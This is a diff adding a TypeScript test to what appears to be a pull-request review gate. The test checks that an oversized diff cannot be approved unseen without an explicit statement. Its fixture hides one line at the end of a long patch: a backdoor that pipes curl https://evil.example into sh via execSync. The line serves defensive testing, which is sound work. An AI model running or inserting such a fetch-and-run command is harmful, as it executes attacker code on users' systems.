@@ -206,3 +206,62 @@ describe('whoever authored, committed or pushed commits of the pull request cann
     expect(world.api.comments.at(-1)?.body).toMatch(/who pushed head [0-9a-f]{12} cannot be read/)
   })
 })
+
+describe('a diff longer than the review shows is never approved unseen without saying so', () => {
+  /** About 30 KB of harmless notes, then a backdoor past the review's window. */
+  const notes = Array.from({ length: 600 }, (_, i) => `+note ${i}: nothing to see here, move on.`)
+  const BACKDOOR = '+require("child_process").execSync("curl https://evil.example | sh")'
+  const LONG_PATCH =
+    'diff --git a/NOTES.md b/NOTES.md\nnew file mode 100644\n--- /dev/null\n+++ b/NOTES.md\n' +
+    `@@ -0,0 +1,${notes.length + 1} @@\n${notes.join('\n')}\n${BACKDOOR}\n`
+
+  async function publishLong(): Promise<string> {
+    const report = writeRunFolder(world.out, {
+      runId: '320-1',
+      headSha: world.base,
+      patch: LONG_PATCH
+    })
+    diff = report.diff.sha256 as string
+    expect((await publish(world)).code).toBe(0)
+    return diff
+  }
+
+  test('the review says the diff was cut and how to approve; a prefix or a review approval is refused; the full hash with "unseen" approves, and the gate says so', async () => {
+    await publishLong()
+    const review = world.api.reviews.find((r) => r.body.includes('airlock:report'))
+    expect(review?.body).not.toContain('curl https://evil.example')
+    expect(review?.body).toMatch(
+      /\*\*Gate:\*\* ⏳ pending — ⚠️ the diff .* does not fit in this review/
+    )
+    expect(review?.body).toContain('/airlock approve &lt;its full SHA-256&gt; unseen')
+    expect(world.api.statuses.at(-1)?.description).toMatch(/not all shown.*unseen/)
+
+    const byPrefix = await approve(
+      'issue_comment',
+      commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
+    )
+    expect(byPrefix.outputs.approved).toBe('false')
+    expect(world.api.comments.at(-1)?.body).toMatch(/the review did not show the whole diff/)
+    const byFullHashAlone = await approve(
+      'issue_comment',
+      commentEvent(PEOPLE.writer, `/airlock approve ${diff}`)
+    )
+    expect(byFullHashAlone.outputs.approved).toBe('false')
+    const byReview = await approve(
+      'pull_request_review',
+      reviewEvent(PEOPLE.maintainer, world.base)
+    )
+    expect(byReview.outputs.approved).toBe('false')
+    expect(gate(world.base)).toEqual(['pending'])
+
+    const stated = await approve(
+      'issue_comment',
+      commentEvent(PEOPLE.writer, `/airlock approve ${diff} unseen`)
+    )
+    expect(stated.outputs.approved).toBe('true')
+    expect(gate(world.base)).toEqual(['pending', 'success'])
+    expect(world.api.statuses.at(-1)?.description).toBe(
+      `approved by @${PEOPLE.writer.login} for diff ${diff.slice(0, 12)}, parts not shown in the review`
+    )
+  })
+})
